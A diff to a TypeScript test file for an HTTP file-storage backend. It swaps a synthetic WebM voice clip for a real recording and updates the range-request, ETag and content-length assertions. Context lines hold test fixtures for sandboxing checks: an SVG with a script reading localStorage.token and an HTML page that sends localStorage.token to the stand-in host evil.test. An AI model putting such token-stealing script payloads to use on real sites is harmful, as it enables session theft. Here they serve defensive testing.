@@ -1,4 +1,5 @@
 // Storage over HTTP: uploads typed by their bytes and usable once, downloads only of attached files by unguessable URL, sandboxed, with ranges.
+import { readFileSync } from "node:fs";
 import { anyApi } from "convex/server";
 import { afterAll, beforeAll, expect, test } from "vitest";
 import type { StoredDoc } from "./engine/internals";
@@ -15,8 +16,8 @@ afterAll(async () => {
   await backend?.cleanup();
 });
 
-/** A WebM (EBML magic) voice clip of 1,000 bytes. */
-const clip = Uint8Array.from({ length: 1000 }, (_, i) => [0x1a, 0x45, 0xdf, 0xa3][i] ?? i % 251);
+/** A real WebM voice clip (Chromium's MediaRecorder, about 2 s): registering reads its length from the file. */
+const clip = new Uint8Array(readFileSync(new URL("../convex/testdata/mediarecorder-opus.webm", import.meta.url)));
 const png = Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...Array.from({ length: 56 }, (_, i) => i)]);
 const svg = new TextEncoder().encode('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(localStorage.token)</script></svg>');
 const html = new TextEncoder().encode("<!doctype html><script>fetch('//evil.test/?'+localStorage.token)</script>");
@@ -58,6 +59,7 @@ async function sendVoice(on: TestBackend, clientId: string, bytes = clip): Promi
   const alice = await signedIn(on, "alice");
   const bob = await signedIn(on, "bob");
   const storageId = await upload((await alice.client.mutation(api.files.generateVoiceUploadUrl, {})) as string, "audio/webm", bytes);
+  await alice.client.action(api.files.registerUpload, { storageId: storageId as never, kind: "voice" });
   await alice.client.mutation(api.whispers.sendVoiceWhisper, {
     clientId,
     recipientId: bob.id,
@@ -108,18 +110,18 @@ test("an attached voice clip downloads inline and sandboxed, with ranges, ETag a
   const part = await fetch(audioUrl, { headers: { Range: "bytes=100-199" } });
   expect(part.status).toBe(206);
   expectSandboxed(part);
-  expect(part.headers.get("content-range")).toBe("bytes 100-199/1000");
+  expect(part.headers.get("content-range")).toBe(`bytes 100-199/${clip.length}`);
   expect(part.headers.get("content-length")).toBe("100");
   expect(new Uint8Array(await part.arrayBuffer())).toEqual(clip.slice(100, 200));
 
   const tail = await fetch(audioUrl, { headers: { Range: "bytes=-10" } });
   expect(tail.status).toBe(206);
-  expect(new Uint8Array(await tail.arrayBuffer())).toEqual(clip.slice(990));
+  expect(new Uint8Array(await tail.arrayBuffer())).toEqual(clip.slice(clip.length - 10));
 
-  const beyond = await fetch(audioUrl, { headers: { Range: "bytes=5000-" } });
+  const beyond = await fetch(audioUrl, { headers: { Range: `bytes=${clip.length + 10}-` } });
   expect(beyond.status).toBe(416);
   expectSandboxed(beyond);
-  expect(beyond.headers.get("content-range")).toBe("bytes */1000");
+  expect(beyond.headers.get("content-range")).toBe(`bytes */${clip.length}`);
 
   const etag = full.headers.get("etag")!;
   const cached = await fetch(audioUrl, { headers: { "If-None-Match": etag } });
@@ -128,7 +130,7 @@ test("an attached voice clip downloads inline and sandboxed, with ranges, ETag a
 
   const head = await fetch(audioUrl, { method: "HEAD" });
   expect(head.status).toBe(200);
-  expect(head.headers.get("content-length")).toBe("1000");
+  expect(head.headers.get("content-length")).toBe(String(clip.length));
 });
 
 test("a stored type outside the allowlist is served as an octet-stream attachment", async () => {
